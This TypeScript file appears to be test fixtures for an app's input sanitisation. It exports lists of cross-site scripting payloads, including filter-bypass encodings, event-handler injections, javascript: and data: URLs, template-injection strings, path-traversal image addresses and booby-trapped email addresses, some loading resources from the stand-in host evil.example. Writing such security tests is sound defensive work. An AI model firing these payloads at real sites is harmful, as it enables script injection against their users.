// Texts that, if run as code, set window.executed, open a dialog or request evil.example.

const RUN = "window.executed=1";
const LOAD = "https://evil.example/x";

export const SCRIPT_TEXTS: string[] = [
  ...[`<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT >`, `</script><script>${RUN}</script>`],
  ...[`<script src=${LOAD}.js></script>`, `<script type=module>${RUN}</script>`],
  ...[`<scr<script>ipt>${RUN}</scr</script>ipt>`, `<img src=x onerror=${RUN}>`],
  ...[`"><img src=x onerror=${RUN}>`, `'><img src=x onerror='${RUN}'>`],
  ...[`" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`, `' onfocus='${RUN}' autofocus x='`],
  ...[`<svg onload=${RUN}>`, `<svg/onload=${RUN}//`, `<svg><script>${RUN}</script></svg>`],
  ...[`<svg><animate onbegin=${RUN} attributeName=x dur=1s>`],
  ...[`<math><mtext><style><img src onerror=${RUN}></style>`, `<body onload=${RUN}>`],
  ...[`<details open ontoggle=${RUN}>x</details>`, `<video><source onerror=${RUN}></video>`],
  ...[`<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`],
  ...[`<iframe src="javascript:parent.${RUN}"></iframe>`],
  ...[`<object data="${LOAD}"></object><embed src="${LOAD}">`],
  ...[`<a href="javascript:${RUN}" autofocus>go</a>`, `javascript:${RUN}`],
  `java\tscript:${RUN}`.replace("\t", "&#9;"),
  ...[`data:text/html,<script>${RUN}</script>`, `<meta http-equiv="refresh" content="0;url=${LOAD}">`],
  ...[`<base href="${LOAD}/">`, `<link rel=stylesheet href="${LOAD}.css">`],
  ...[`<style>@import "${LOAD}.css";*{background:url(${LOAD}.png)}</style>`],
  ...[`<p style="background:url(${LOAD}.png);width:expression(${RUN})">`],
  ...[`<form action="${LOAD}"><input name=q autofocus onfocus=${RUN}>`, `</textarea><script>${RUN}</script>`],
  ...[`</title><script>${RUN}</script>`, `</select></option><script>${RUN}</script>`],
  ...[`</style></noscript><script>${RUN}</script>`, `<!--<script>${RUN}</script>`],
  ...[`--><script>${RUN}</script><!--`, `]]><script>${RUN}</script>`],
  ...["{{constructor.constructor('window.executed=1')()}}", `\${${RUN}}\`\${${RUN}}\``],
  ...["<%= window.executed=1 %>#{window.executed=1}", `\\"};${RUN};//`, `');${RUN};//`],
  ...[`\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `&lt;script&gt;${RUN}&lt;/script&gt;`],
  ...[`%3Cscript%3E${RUN}%3C/script%3E`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`],
  ...[`＜script＞${RUN}＜/script＞`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`],
];

/** Attacks on scripts instead of HTML, for multi-line texts only. */
export const LINE_SEPARATORS = `\u2028${RUN}\u2029${RUN}\n${RUN}//`;

/** Texts short enough for a time, a type or a phone number. */
export const SHORT_TEXTS = [
  "<svg onload=window.executed=1>",
  '"><svg onload=window.executed=1>',
  "</script><script>executed=1</script>",
  "</title><svg onload=executed=1>",
  "<base href=//evil.example>",
];

/** Image addresses other than those of uploaded images. */
export const SCRIPT_ADDRESSES = [
  ...["javascript:window.executed=1", "JaVaScRiPt:window.executed=1", "java\nscript:window.executed=1"],
  ...["data:text/html,<script>window.executed=1</script>"],
  ...["data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.executed=1'/>"],
  ...["vbscript:window.executed=1", "https://evil.example/x.png", "//evil.example/x.png"],
  ...["/\\evil.example/x.png", "/portraits/../api/logout", '/portraits/x.svg#"onerror=window.executed=1'],
  ...['/portraits/x.svg" onerror="window.executed=1', "/objects/uploads/../../api/logout"],
  ...['/objects/uploads/00000000-0000-0000-0000-000000000000?x="><script>', "blob:https://evil.example/x"],
  ...SHORT_TEXTS,
];

/** Odd email addresses, valid and invalid. */
export const SCRIPT_EMAILS = [
  ...["o'onfocus'-1@example.com", "'onload=executed=1'@example.com"],
  ...['"<script>window.executed=1</script>"@example.com', "<script>executed=1</script>@example.com"],
  ...["x@example.com<script>executed=1</script>", '"><svg/onload=executed=1>"@example.com'],
  ...["javascript:executed=1@example.com", "a'+executed=1+'@example.com"],
];
